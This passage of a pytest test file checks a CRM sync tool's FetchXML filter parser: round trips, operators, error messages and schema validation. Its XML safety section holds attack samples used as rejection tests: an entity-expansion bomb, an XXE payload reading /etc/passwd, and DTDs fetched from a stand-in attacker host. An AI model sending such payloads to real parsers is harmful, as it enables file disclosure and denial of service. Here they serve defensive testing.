"""FetchXML sync filters: parse/render round trips, errors, XML safety, validation, summaries, evaluation."""

from __future__ import annotations

import time
from datetime import UTC, date, datetime, timedelta, timezone
from decimal import Decimal
from typing import Any
from uuid import UUID

import pytest

from crmsync_desktop.errors import FilterError
from crmsync_desktop.sync.filters import (
    LOCAL_OPERATORS,
    MAX_FILTER_CHARS,
    NO_FILTER,
    OPERATORS,
    AttributeInfo,
    AttributeType,
    Condition,
    EvaluationContext,
    FetchFilter,
    FilterGroup,
    FilterType,
    LinkEntity,
    LinkType,
    MetadataMap,
    Order,
    can_evaluate_locally,
    evaluate,
    like_regex,
    local_evaluation_blockers,
    parse_filter,
    render_filter,
    summarize_filter,
    validate_filter,
)
from crmsync_desktop.sync.filters.operators import Arity, ValueKind

USER = "9f3c2f1e-6a51-4f0e-9d7c-0d3f5a1b2c3d"
OTHER_USER = "11111111-2222-3333-4444-555555555555"
BU = "0a0b0c0d-1111-2222-3333-444455556666"

# --- realistic filters ------------------------------------------------------------------------------

OWNER_CURRENT_USER = """<fetch version="1.0"><entity name="contact"><filter type="and">
  <condition attribute="ownerid" operator="eq-userid" /></filter></entity></fetch>"""

STATUS_ACTIVE = """<fetch version="1.0"><entity name="account"><filter>
  <condition attribute="statecode" operator="eq" value="0" /></filter></entity></fetch>"""

MODIFIED_LAST_30_DAYS = """<fetch version="1.0" mapping="logical"><entity name="account">
  <attribute name="name" /><all-attributes />
  <filter type="and"><condition attribute="modifiedon" operator="last-x-days" value="30" /></filter>
</entity></fetch>"""

LINK_ACCOUNT_BY_OWNER = """<fetch version="1.0"><entity name="contact">
  <link-entity name="account" from="accountid" to="parentcustomerid" link-type="inner" alias="L0">
    <filter type="and"><condition attribute="ownerid" operator="eq-userid" /></filter>
  </link-entity>
</entity></fetch>"""

NESTED_OR = """<?xml version="1.0" encoding="utf-8"?>
<!-- exported from Woodford -->
<fetch version="1.0">
  <entity name="contact">
    <order attribute="lastname" /><order attribute="createdon" descending="true" />
    <filter type="and">
      <condition attribute="statecode" operator="eq" value="0" />
      <filter type="or">
        <condition attribute="ownerid" operator="eq-userid" />
        <filter type="and">
          <condition attribute="address1_city" operator="like" value="Pra%" />
          <condition attribute="statuscode" operator="in"><value>1</value><value>2</value></condition>
        </filter>
        <condition attribute="createdon" operator="between"><value>2024-01-01</value><value>2024-12-31</value></condition>
      </filter>
    </filter>
    <link-entity name="account" from="accountid" to="parentcustomerid" link-type="outer" alias="acc">
      <filter type="or"><condition attribute="name" operator="not-null" /></filter>
      <link-entity name="systemuser" from="systemuserid" to="owninguser" alias="usr" />
    </link-entity>
    <filter type="and"><condition attribute="acc" operator="null" entityname="acc" /></filter>
  </entity>
</fetch>"""

VALUE_OF = """<fetch><entity name="opportunity"><filter>
  <condition attribute="actualvalue" operator="gt" valueof="estimatedvalue" /></filter></entity></fetch>"""

WITH_COUNT = """<fetch version="1.0" count="500"><entity name="task"><filter>
  <condition attribute="scheduledend" operator="next-x-days" value="14" /></filter></entity></fetch>"""

ENTITY_ONLY = '<fetch version="1.0"><entity name="product" /></fetch>'

REALISTIC = [
    OWNER_CURRENT_USER,
    STATUS_ACTIVE,
    MODIFIED_LAST_30_DAYS,
    LINK_ACCOUNT_BY_OWNER,
    NESTED_OR,
    VALUE_OF,
    WITH_COUNT,
    ENTITY_ONLY,
]


@pytest.mark.parametrize("xml", REALISTIC)
def test_round_trip_is_exact(xml: str) -> None:
    parsed = parse_filter(xml)
    rendered = render_filter(parsed)
    assert parse_filter(rendered) == parsed
    assert render_filter(parse_filter(rendered)) == rendered  # canonical form is a fixed point


def test_parse_builds_the_expected_tree() -> None:
    f = parse_filter(NESTED_OR)
    assert f.entity == "contact"
    assert f.orders == (Order("lastname"), Order("createdon", descending=True))
    # two <filter> children of one entity are ANDed in one group
    assert f.filter is not None and f.filter.type is FilterType.AND and len(f.filter.groups) == 2
    inner_or = f.filter.groups[0].groups[0]
    assert inner_or.type is FilterType.OR
    assert inner_or.conditions == (Condition("ownerid", "eq-userid"), inner_or.items[2])
    assert inner_or.groups == (inner_or.items[1],)
    assert inner_or.items[0] == Condition("ownerid", "eq-userid")
    assert inner_or.items[1] == FilterGroup(
        FilterType.AND,
        (
            Condition("address1_city", "like", ("Pra%",)),
            Condition("statuscode", "in", ("1", "2")),
        ),
    )
    assert inner_or.items[2] == Condition("createdon", "between", ("2024-01-01", "2024-12-31"))
    link = f.links[0]
    assert (link.name, link.from_attribute, link.to_attribute, link.link_type, link.alias) == (
        "account",
        "accountid",
        "parentcustomerid",
        LinkType.OUTER,
        "acc",
    )
    assert link.links == (LinkEntity("systemuser", "systemuserid", "owninguser", LinkType.INNER, "usr"),)
    assert f.filter.groups[1].items == (Condition("acc", "null", entity_alias="acc"),)
    assert [x.name for x in f.walk_links()] == ["account", "systemuser"]


def test_canonical_rendering() -> None:
    assert render_filter(parse_filter(LINK_ACCOUNT_BY_OWNER)) == (
        '<fetch version="1.0">\n'
        '  <entity name="contact">\n'
        '    <link-entity name="account" from="accountid" to="parentcustomerid" link-type="inner" alias="L0">\n'
        '      <filter type="and">\n'
        '        <condition attribute="ownerid" operator="eq-userid" />\n'
        "      </filter>\n"
        "    </link-entity>\n"
        "  </entity>\n"
        "</fetch>"
    )
    assert (
        render_filter(parse_filter(ENTITY_ONLY))
        == '<fetch version="1.0">\n  <entity name="product" />\n</fetch>'
    )
    assert 'count="500"' in render_filter(parse_filter(WITH_COUNT))
    assert render_filter(parse_filter(VALUE_OF)).count('valueof="estimatedvalue"') == 1


def test_render_escapes_and_round_trips_awkward_values() -> None:
    values = ('a "quoted" <b> & c', "line1\nline2\ttab\r", "]]> ' ü €")
    f = FetchFilter(
        "account",
        FilterGroup(
            FilterType.OR,
            (
                Condition("name", "eq", (values[0],)),
                Condition("description", "like", (values[1],)),
                Condition("name", "in", values),
            ),
        ),
    )
    assert parse_filter(render_filter(f)) == f


def test_render_refuses_control_characters() -> None:
    bad = FetchFilter("account", FilterGroup(items=(Condition("name", "eq", ("a\x01b",)),)))
    with pytest.raises(FilterError, match="control character"):
        render_filter(bad)
    bad_list = FetchFilter("account", FilterGroup(items=(Condition("name", "in", ("ok", "a\x02")),)))
    with pytest.raises(FilterError, match="control character"):
        render_filter(bad_list)


def test_empty_string_means_no_filter() -> None:
    for text in ("", "   \n\t"):
        assert parse_filter(text) == NO_FILTER
    assert render_filter(NO_FILTER) == ""
    assert summarize_filter(NO_FILTER) == "All records"
    assert NO_FILTER.is_empty and parse_filter(ENTITY_ONLY).is_empty
    assert not parse_filter(WITH_COUNT).is_empty
    assert evaluate(NO_FILTER, {}, EvaluationContext(USER, BU, datetime(2024, 1, 1, tzinfo=UTC)))


def test_empty_filter_group_round_trips() -> None:
    f = parse_filter('<fetch><entity name="a"><filter type="or" /></entity></fetch>')
    assert f.filter == FilterGroup(FilterType.OR, ())
    assert parse_filter(render_filter(f)) == f
    assert f.is_empty


def test_operator_names_are_case_insensitive_and_canonicalised() -> None:
    f = parse_filter(
        '<fetch><entity name="a"><filter type="OR"><condition attribute="x" operator="Eq" value="1"/>'
        "</filter></entity></fetch>"
    )
    assert f.filter == FilterGroup(FilterType.OR, (Condition("x", "eq", ("1",)),))


def test_entity_argument_must_match() -> None:
    assert parse_filter(STATUS_ACTIVE, entity="account").entity == "account"
    with pytest.raises(FilterError) as info:
        parse_filter(STATUS_ACTIVE, entity="contact")
    assert "for entity 'account', but it is attached to 'contact'" in str(info.value)
    assert info.value.entity == "contact"


# --- every operator of the Dataverse digest §4.3 ---------------------------------------------------

DOC_OPERATORS = [
    "eq",
    "ne",
    "neq",
    "gt",
    "ge",
    "lt",
    "le",
    "between",
    "not-between",
    "in",
    "not-in",
    "null",
    "not-null",
    "like",
    "not-like",
    "begins-with",
    "not-begin-with",
    "ends-with",
    "not-end-with",
    "contain-values",
    "not-contain-values",
    "eq-userid",
    "ne-userid",
    "eq-businessid",
    "ne-businessid",
    "eq-userteams",
    "eq-useroruserteams",
    "eq-useroruserhierarchy",
    "eq-useroruserhierarchyandteams",
    "eq-userlanguage",
    "above",
    "eq-or-above",
    "under",
    "eq-or-under",
    "not-under",
    "today",
    "yesterday",
    "tomorrow",
    "this-week",
    "last-week",
    "next-week",
    "this-month",
    "last-month",
    "next-month",
    "this-year",
    "last-year",
    "next-year",
    "last-seven-days",
    "next-seven-days",
    "last-x-hours",
    "next-x-hours",
    "last-x-days",
    "next-x-days",
    "last-x-weeks",
    "next-x-weeks",
    "last-x-months",
    "next-x-months",
    "last-x-years",
    "next-x-years",
    "olderthan-x-minutes",
    "olderthan-x-hours",
    "olderthan-x-days",
    "olderthan-x-weeks",
    "olderthan-x-months",
    "olderthan-x-years",
    "on",
    "on-or-before",
    "on-or-after",
    "this-fiscal-year",
    "this-fiscal-period",
    "last-fiscal-year",
    "last-fiscal-period",
    "next-fiscal-year",
    "next-fiscal-period",
    "last-x-fiscal-years",
    "last-x-fiscal-periods",
    "next-x-fiscal-years",
    "next-x-fiscal-periods",
    "in-fiscal-year",
    "in-fiscal-period",
    "in-fiscal-period-and-year",
    "in-or-before-fiscal-period-and-year",
    "in-or-after-fiscal-period-and-year",
]

SAMPLE_VALUE = {
    ValueKind.TYPED: "7",
    ValueKind.COUNT: "3",
    ValueKind.INTEGER: "2024",
    ValueKind.DATE: "2024-05-01",
    ValueKind.TEXT: "Con%",
}
COUNT_FOR = {Arity.NONE: 0, Arity.ONE: 1, Arity.TWO: 2, Arity.MANY: 3}


def test_operator_table_is_exactly_the_documented_set() -> None:
    assert sorted(OPERATORS) == sorted(DOC_OPERATORS)
    assert len(DOC_OPERATORS) == len(set(DOC_OPERATORS))


def _condition_xml(op: str, count: int, value: str) -> str:
    values = "".join(f"<value>{value}</value>" for _ in range(count))
    return (
        f'<fetch><entity name="a"><filter><condition attribute="x" operator="{op}">{values}</condition>'
        "</filter></entity></fetch>"
    )


@pytest.mark.parametrize("op", DOC_OPERATORS)
def test_every_operator_parses_renders_and_checks_its_arity(op: str) -> None:
    spec = OPERATORS[op]
    count = COUNT_FOR[spec.arity]
    f = parse_filter(_condition_xml(op, count, SAMPLE_VALUE[spec.value_kind]))
    assert f.filter is not None and f.filter.items[0] == Condition(
        "x", op, (SAMPLE_VALUE[spec.value_kind],) * count
    )
    assert parse_filter(render_filter(f)) == f
    wrong = 1 if spec.arity in (Arity.NONE, Arity.TWO) else 0 if spec.arity is Arity.MANY else 2
    with pytest.raises(FilterError, match=f"operator '{op}' takes {spec.arity.value}, but {wrong}"):
        parse_filter(_condition_xml(op, wrong, SAMPLE_VALUE[spec.value_kind]))
    assert summarize_filter(f).startswith("x ")


# --- parse errors -------------------------------------------------------------------------------------


def _wrap(condition: str, entity: str = "account") -> str:
    return f'<fetch><entity name="{entity}"><filter>{condition}</filter></entity></fetch>'


PARSE_ERRORS = [
    (
        "<fetch><entity name='a'><filter></entity></fetch>",
        "not well-formed XML: mismatched tag at line 1, column 35",
    ),
    (
        "<fetch>\n  <entity name='a'>\n    <filter>\n",
        "not well-formed XML: no element found at line 4, column 1",
    ),
    ("<fetch><entity name='a' name='b'/></fetch>", "duplicate attribute at line 1"),
    ("<fetch><entity name='a'>&nbsp;</entity></fetch>", "undefined entity"),
    ("plain text", "not well-formed XML: syntax error at line 1, column 1"),
    ("<filter/>", "<filter> at line 1, column 1: a filter must start with <fetch>"),
    ("<fetch/>", "<fetch> at line 1, column 1: <fetch> must contain exactly one <entity> element"),
    ("<fetch><entity name='a'/><entity name='b'/></fetch>", "exactly one <entity>"),
    (
        "<fetch page='2'><entity name='a'/></fetch>",
        "unexpected attribute 'page'; allowed here: count, distinct",
    ),
    ("<fetch count='0'><entity name='a'/></fetch>", "count='0' must be a whole number of at least 1"),
    ("<fetch count='ten'><entity name='a'/></fetch>", "count='ten' must be a whole number"),
    ("<fetch><entity/></fetch>", "<entity> at line 1, column 8: the 'name' attribute is required"),
    ("<fetch><entity name='my table'/></fetch>", "name='my table' is not a valid logical name"),
    ("<fetch><entity name='a'>hello</entity></fetch>", "unexpected text 'hello'; only elements are allowed"),
    (
        "<fetch><entity name='a'><where/></entity></fetch>",
        (
            "<where> at line 1, column 25: unexpected element inside "
            "<entity>; allowed there: <filter>, <link-entity>"
        ),
    ),
    ('<fetch xmlns="urn:x"><entity name="a"/></fetch>', "a filter must start with <fetch>"),
    (
        _wrap('<condition attribute="name" operator="equals" value="x"/>'),
        "<condition attribute=\"name\"> at line 1, column 39: unknown operator 'equals'. Did you mean 'eq'?",
    ),
    (
        _wrap('<condition attribute="name" operator="sounds-like" value="x"/>'),
        "unknown operator 'sounds-like'. Did you mean 'not-like'? See docs/config-format.md",
    ),
    (
        _wrap('<condition attribute="name" operator="eq"/>'),
        "operator 'eq' takes exactly one value, but 0 were given",
    ),
    (
        _wrap('<condition attribute="name" operator="null" value="x"/>'),
        "operator 'null' takes no value, but 1 was given",
    ),
    (
        _wrap('<condition attribute="n" operator="between"><value>1</value></condition>'),
        "operator 'between' takes exactly two values, but 1 was given",
    ),
    (
        _wrap('<condition attribute="n" operator="in"></condition>'),
        "'in' takes one or more values, but 0 were given",
    ),
    (
        _wrap('<condition attribute="n" operator="in" value="1"><value>2</value></condition>'),
        'use either value="…" or <value> children, not both',
    ),
    (
        _wrap('<condition attribute="n" operator="eq" value=""/>'),
        "a value is empty; to match empty columns use",
    ),
    (
        _wrap('<condition attribute="n" operator="in"><value>1</value><value> </value></condition>'),
        "a value is empty",
    ),
    (
        _wrap('<condition attribute="n" operator="in"><value><b/></value></condition>'),
        "<value> at line 1, column 78: a <value> holds text only",
    ),
    (_wrap('<condition attribute="n" operator="in"><val>1</val></condition>'), "allowed there: <value>"),
    (
        _wrap('<condition attribute="n" operator="in"><value x="1">1</value></condition>'),
        "unexpected attribute 'x'",
    ),
    (_wrap('<condition operator="eq" value="1"/>'), "the 'attribute' attribute is required"),
    (_wrap('<condition attribute="n" value="1"/>'), "the 'operator' attribute is required"),
    (_wrap('<condition attribute="n" operator="eq" value="1" foo="bar"/>'), "unexpected attribute 'foo'"),
    (
        _wrap('<condition attribute="m" operator="last-x-days" value="thirty"/>'),
        "operator 'last-x-days' needs a whole number of at least 1, not 'thirty'",
    ),
    (_wrap('<condition attribute="m" operator="last-x-days" value="0"/>'), "at least 1, not '0'"),
    (
        _wrap('<condition attribute="m" operator="in-fiscal-year" value="FY24"/>'),
        "operator 'in-fiscal-year' needs whole numbers, not 'FY24'",
    ),
    (
        _wrap('<condition attribute="m" operator="on" value="31/05/2024"/>'),
        "operator 'on' needs a date such as 2024-05-31, not '31/05/2024'",
    ),
    (
        _wrap('<condition attribute="m" operator="like" valueof="n"/>'),
        "valueof can only be used with eq, ge, gt",
    ),
    (
        _wrap('<condition attribute="m" operator="eq" valueof="n" value="1"/>'),
        "compares two columns and takes no value",
    ),
    (
        _wrap('<condition attribute="m" operator="eq" valueof="n m"/>'),
        "valueof='n m' is not a valid logical name",
    ),
    (
        _wrap('<condition attribute="m" operator="eq" value="1" entityname="zz"/>'),
        "the condition on 'm' refers to entityname='zz', but no <link-entity> has that alias",
    ),
    ('<fetch><entity name="a"><filter type="xor"/></entity></fetch>', 'type=\'xor\' must be "and" or "or"'),
    (
        '<fetch><entity name="a"><filter><link-entity name="b" from="x" to="y"/></filter></entity></fetch>',
        "unexpected element inside <filter>; allowed there: <condition>, <filter>",
    ),
    (
        '<fetch><entity name="a"><link-entity name="b" from="x" to="y" link-type="left"/></entity></fetch>',
        "link-type='left' is not one of: inner, outer, any, not-any",
    ),
    (
        '<fetch><entity name="a"><link-entity name="b" to="y"/></entity></fetch>',
        "<link-entity name=\"b\"> at line 1, column 25: the 'from' attribute is required",
    ),
    (
        '<fetch><entity name="a"><link-entity name="b" from="x" to="y" alias="my alias"/></entity></fetch>',
        "alias='my alias' is not a valid alias",
    ),
    (
        (
            '<fetch><entity name="a"><link-entity name="b" from="x" to="y" alias="L"/>'
            '<link-entity name="c" from="x" to="y" alias="L"/></entity></fetch>'
        ),
        "the alias 'L' is used by more than one <link-entity>",
    ),
    (
        '<fetch><entity name="a"><order attribute="x" descending="yes"/></entity></fetch>',
        'descending=\'yes\' must be "true" or "false"',
    ),
    (
        '<fetch><entity name="a"><order/></entity></fetch>',
        "<order> at line 1, column 25: the 'attribute' attribute",
    ),
]


@pytest.mark.parametrize(("xml", "fragment"), PARSE_ERRORS)
def test_parse_errors_are_precise(xml: str, fragment: str) -> None:
    with pytest.raises(FilterError) as info:
        parse_filter(xml)
    assert fragment in str(info.value)
    assert info.value.title == "Invalid filter"


def test_condition_on_unaliased_link_by_name_is_accepted() -> None:
    f = parse_filter(
        '<fetch><entity name="a"><filter><condition attribute="n" operator="null" entityname="b"/>'
        '</filter><link-entity name="b" from="x" to="y"/></entity></fetch>'
    )
    assert f.filter is not None and f.filter.items[0] == Condition("n", "null", entity_alias="b")


def test_nesting_depth_and_size_limits() -> None:
    deep = '<fetch><entity name="a">' + "<filter>" * 40 + "</filter>" * 40 + "</entity></fetch>"
    with pytest.raises(FilterError, match="nested more than 32 levels deep"):
        parse_filter(deep)
    deep_links = (
        '<fetch><entity name="a">'
        + '<link-entity name="b" from="x" to="y">' * 40
        + "</link-entity>" * 40
        + "</entity></fetch>"
    )
    with pytest.raises(FilterError, match="nested more than 32 levels deep"):
        parse_filter(deep_links)
    ok = '<fetch><entity name="a">' + "<filter>" * 31 + "</filter>" * 31 + "</entity></fetch>"
    assert parse_filter(ok).entity == "a"
    with pytest.raises(FilterError, match=f"the limit is {MAX_FILTER_CHARS:,}"):
        parse_filter(" " * 10 + "<fetch>" + " " * MAX_FILTER_CHARS + "</fetch>")


# --- XML safety ------------------------------------------------------------------------------------

BILLION_LAUGHS = """<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<fetch><entity name="account"><filter><condition attribute="name" operator="eq" value="&lol9;"/></filter></entity></fetch>"""

XXE_FILE = """<?xml version="1.0"?>
<!DOCTYPE fetch [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<fetch><entity name="account"><filter><condition attribute="name" operator="in"><value>&xxe;</value></condition>
</filter></entity></fetch>"""

EXTERNAL_DTD = """<?xml version="1.0"?>
<!DOCTYPE fetch SYSTEM "http://attacker.invalid/evil.dtd">
<fetch><entity name="account"/></fetch>"""

PARAMETER_ENTITY = """<?xml version="1.0"?>
<!DOCTYPE fetch [<!ENTITY % remote SYSTEM "http://attacker.invalid/x.dtd"> %remote;]>
<fetch><entity name="account"/></fetch>"""


@pytest.mark.parametrize(
    ("xml", "fragment"),
    [
        (BILLION_LAUGHS, "document type declaration (<!DOCTYPE lolz>)"),
        (XXE_FILE, "document type declaration (<!DOCTYPE fetch>)"),
        (EXTERNAL_DTD, "document type declaration (<!DOCTYPE fetch>)"),
        (PARAMETER_ENTITY, "document type declaration"),
    ],
)
def test_unsafe_xml_is_rejected_quickly_not_expanded(xml: str, fragment: str) -> None:
    started = time.perf_counter()
    with pytest.raises(FilterError) as info:
        parse_filter(xml)
    assert time.perf_counter() - started < 0.5
    assert fragment in str(info.value)
    assert "XML bomb" in str(info.value)


def test_other_defusedxml_refusals_are_translated(monkeypatch: pytest.MonkeyPatch) -> None:
    """Entity declarations and external references are refused even if DTD checking were relaxed."""
    from defusedxml.ElementTree import DefusedXMLParser

    from crmsync_desktop.sync.filters import parser as parser_module

    class NoDtdCheck(DefusedXMLParser):
        def __init__(self, **kw: Any) -> None:
            super().__init__(**{**kw, "forbid_dtd": False})

    monkeypatch.setattr(parser_module, "DefusedXMLParser", NoDtdCheck)
    with pytest.raises(FilterError, match=r"declares an XML entity \('lol'\).*XML bomb"):
        parse_filter(BILLION_LAUGHS)
    assert parse_filter(EXTERNAL_DTD).entity == "account"  # expat never fetches an external DTD

    class NoEntityCheck(DefusedXMLParser):
        def __init__(self, **kw: Any) -> None:
            super().__init__(**{**kw, "forbid_dtd": False, "forbid_entities": False})

    monkeypatch.setattr(parser_module, "DefusedXMLParser", NoEntityCheck)
    with pytest.raises(FilterError, match="refers to an external resource"):
        parse_filter(XXE_FILE)

    class Refusing(DefusedXMLParser):
        def feed(self, data: Any) -> None:
            from defusedxml import NotSupportedError

            raise NotSupportedError("no")

    monkeypatch.setattr(parser_module, "DefusedXMLParser", Refusing)
    with pytest.raises(FilterError, match="uses an XML feature that is not accepted"):
        parse_filter(ENTITY_ONLY)


# --- validation -------------------------------------------------------------------------------------

METADATA = MetadataMap.from_mapping(
    {
        "contact": {
            "contactid": "Uniqueidentifier",
            "fullname": "String",
            "ownerid": ("Owner", ["systemuser", "team"]),
            "parentcustomerid": ("Customer", ["account", "contact"]),
            "statecode": "State",
            "statuscode": "Status",
            "numberofchildren": "Integer",
            "creditlimit": "Money",
            "donotemail": "Boolean",
            "birthdate": "DateTime",
            "modifiedon": "DateTime",
            "createdon": AttributeType.DATETIME,
            "hobbies": "MultiSelectPicklist",
            "entityimage": "Image",
        },
        "account": {
            "accountid": "Uniqueidentifier",
            "name": "String",
            "ownerid": ("Owner", ["systemuser", "team"]),
            "primarycontactid": ("Lookup", ["contact"]),
            "statecode": "State",
            "revenue": AttributeInfo(AttributeType.MONEY),
        },
        "systemuser": {
            "systemuserid": "Uniqueidentifier",
            "fullname": "String",
            "businessunitid": ("Lookup", ("businessunit",)),
        },
    }
)


def _problems(xml: str) -> list[str]:
    return [str(p) for p in validate_filter(parse_filter(xml), METADATA)]


def _c(entity: str, condition: str) -> str:
    return _wrap(condition, entity)


VALID = [
    OWNER_CURRENT_USER,
    LINK_ACCOUNT_BY_OWNER,
    _c("contact", '<condition attribute="statecode" operator="eq" value="0"/>'),
    _c(
        "contact",
        f'<condition attribute="parentcustomerid" operator="in"><value>{USER}</value>'
        f"<value>{{{BU.upper()}}}</value></condition>",
    ),
    _c(
        "contact",
        '<condition attribute="creditlimit" operator="between"><value>10.5</value><value>1e3</value>'
        "</condition>",
    ),
    _c("contact", '<condition attribute="donotemail" operator="eq" value="true"/>'),
    _c("contact", '<condition attribute="birthdate" operator="on-or-after" value="2000-01-01"/>'),
    _c("contact", '<condition attribute="modifiedon" operator="gt" value="2024-05-01T08:00:00Z"/>'),
    _c("contact", '<condition attribute="hobbies" operator="contain-values"><value>1</value></condition>'),
    _c("contact", '<condition attribute="fullname" operator="like" value="%son"/>'),
    _c("contact", '<condition attribute="fullname" operator="eq" value="Ann O\'Neil"/>'),
    _c("contact", '<condition attribute="modifiedon" operator="ge" valueof="createdon"/>'),
    (
        '<fetch><entity name="contact"><order attribute="fullname"/><link-entity name="account" from="primarycontactid" '
        'to="contactid" alias="a"><filter><condition attribute="name" operator="not-null"/></filter></link-entity>'
        '<filter><condition attribute="statecode" operator="eq" value="0" entityname="a"/></filter></entity></fetch>'
    ),
]


@pytest.mark.parametrize("xml", VALID)
def test_valid_filters_have_no_problems(xml: str) -> None:
    assert _problems(xml) == []
    validate_filter(parse_filter(xml), METADATA, raise_on_problems=True)  # does not raise


PROBLEMS = [
    (
        '<fetch><entity name="contcat"/></fetch>',
        "contcat: unknown entity 'contcat': the server organization has no",
    ),
    (
        _c("contact", '<condition attribute="fulname" operator="eq" value="x"/>'),
        "contact > condition 'fulname': unknown column 'fulname' of 'contact' (did you mean 'fullname'?).",
    ),
    (
        _c("contact", '<condition attribute="numberofchildren" operator="like" value="1%"/>'),
        (
            "contact > condition 'numberofchildren': operator 'like' cannot be used on the integer column "
            "'numberofchildren'; it applies to text columns."
        ),
    ),
    (
        _c("contact", '<condition attribute="fullname" operator="last-x-days" value="3"/>'),
        "operator 'last-x-days' cannot be used on the string column 'fullname'; it applies to date and time columns",
    ),
    (
        _c("contact", '<condition attribute="ownerid" operator="eq" value="John Smith"/>'),
        (
            "contact > condition 'ownerid': 'John Smith' is not a GUID (like 00000000-0000-0000-0000-000000000000), as "
            "the owner column 'ownerid' needs."
        ),
    ),
    (
        _c(
            "contact",
            '<condition attribute="parentcustomerid" operator="in"><value>{BAD}</value></condition>',
        ),
        "'{BAD}' is not a GUID",
    ),
    (
        _c("contact", '<condition attribute="numberofchildren" operator="gt" value="2.5"/>'),
        "'2.5' is not a whole number, as the integer column 'numberofchildren' needs.",
    ),
    (
        _c("contact", '<condition attribute="statecode" operator="eq" value="Active"/>'),
        "'Active' is not a whole number, as the state column",
    ),
    (
        _c("contact", '<condition attribute="creditlimit" operator="ge" value="lots"/>'),
        "'lots' is not a number",
    ),
    (
        _c("contact", '<condition attribute="creditlimit" operator="ge" value="NaN"/>'),
        "'NaN' is not a number",
    ),
    (
        _c("contact", '<condition attribute="donotemail" operator="eq" value="yes"/>'),
        "'yes' is not 0, 1, true or false",
    ),
    (
        _c("contact", '<condition attribute="birthdate" operator="lt" value="yesterday"/>'),
        "'yesterday' is not a date (like 2024-05-31 or 2024-05-31T08:00:00Z)",
    ),
    (
        _c("contact", '<condition attribute="hobbies" operator="eq" value="golf"/>'),
        "'golf' is not a whole number",
    ),
    (
        _c("contact", '<condition attribute="entityimage" operator="null"/>'),
        "contact > condition 'entityimage': image columns cannot be used in a filter.",
    ),
    (
        _c("contact", '<condition attribute="fullname" operator="eq-userid"/>'),
        "operator 'eq-userid' cannot be used on the string column 'fullname'; it applies to lookup or id columns",
    ),
    (
        _c("contact", '<condition attribute="donotemail" operator="gt" value="0"/>'),
        "operator 'gt' cannot be used on the boolean column",
    ),
    (
        _c("contact", '<condition attribute="modifiedon" operator="gt" valueof="modfiedon"/>'),
        "valueof refers to unknown column 'modfiedon' of 'contact'.",
    ),
    (
        _c("contact", '<condition attribute="modifiedon" operator="gt" valueof="fullname"/>'),
        "valueof column 'fullname' is string, but 'modifiedon' is datetime.",
    ),
    (
        (
            '<fetch><entity name="contact"><link-entity name="acount" from="accountid" to="parentcustomerid"/></entity>'
            "</fetch>"
        ),
        "contact > link-entity 'acount': unknown entity 'acount'",
    ),
    (
        (
            '<fetch><entity name="contact"><link-entity name="account" from="accountid" to="parentcustomer" alias="a"/>'
            "</entity></fetch>"
        ),
        (
            "contact > link-entity 'account' (alias 'a'): to='parentcustomer' is not a column of 'contact' (did you mean "
            "'parentcustomerid'?)."
        ),
    ),
    (
        (
            '<fetch><entity name="contact"><link-entity name="account" from="acountid" to="parentcustomerid"/></entity>'
            "</fetch>"
        ),
        "from='acountid' is not a column of 'account' (did you mean 'accountid'?).",
    ),
    (
        (
            '<fetch><entity name="contact"><link-entity name="account" from="name" to="parentcustomerid"/></entity>'
            "</fetch>"
        ),
        "cannot join contact.parentcustomerid (customer) to account.name (string).",
    ),
    (
        (
            '<fetch><entity name="contact"><link-entity name="systemuser" from="systemuserid" to="parentcustomerid"/>'
            "</entity></fetch>"
        ),
        (
            "contact > link-entity 'systemuser': these columns are not related: contact.parentcustomerid points to "
            "account, contact, not to 'systemuser'."
        ),
    ),
    (
        (
            '<fetch><entity name="account"><link-entity name="systemuser" from="businessunitid" to="primarycontactid"/>'
            "</entity></fetch>"
        ),
        (
            "these columns are not related: account.primarycontactid points to contact, not to 'systemuser'; "
            "systemuser.businessunitid points to businessunit, not to 'account'."
        ),
    ),
    (
        (
            '<fetch><entity name="contact"><link-entity name="systemuser" from="businessunitid" to="contactid"/>'
            "</entity></fetch>"
        ),
        "these columns are not related: systemuser.businessunitid points to businessunit, not to 'contact'.",
    ),
    (
        (
            '<fetch><entity name="contact"><link-entity name="account" from="accountid" to="parentcustomerid">'
            '<filter><condition attribute="nmae" operator="null"/></filter></link-entity></entity></fetch>'
        ),
        "contact > link-entity 'account' > condition 'nmae': unknown column 'nmae' of 'account' (did you mean 'name'?)",
    ),
    (
        (
            '<fetch><entity name="contact"><link-entity name="account" from="accountid" to="parentcustomerid" alias="a"/>'
            '<filter><condition attribute="fullname" operator="null" entityname="a"/></filter></entity></fetch>'
        ),
        "contact > condition 'fullname': unknown column 'fullname' of 'account'",
    ),
    (
        '<fetch><entity name="contact"><order attribute="lastname"/></entity></fetch>',
        "contact > order 'lastname': unknown column 'lastname' of 'contact'",
    ),
]


@pytest.mark.parametrize(("xml", "expected"), PROBLEMS)
def test_validation_problems_are_precise(xml: str, expected: str) -> None:
    problems = _problems(xml)
    assert len(problems) == 1, problems
    assert expected in problems[0]


def test_validation_reports_every_problem_and_can_raise() -> None:
    xml = _c(
        "contact",
        '<condition attribute="fulname" operator="eq" value="x"/>'
        '<condition attribute="numberofchildren" operator="like" value="1%"/>'
        '<filter type="or"><condition attribute="ownerid" operator="eq" value="me"/></filter>',
    )
    problems = validate_filter(parse_filter(xml), METADATA)
    assert [p.path for p in problems] == [
        "contact > condition 'fulname'",
        "contact > condition 'numberofchildren'",
        "contact > condition 'ownerid'",
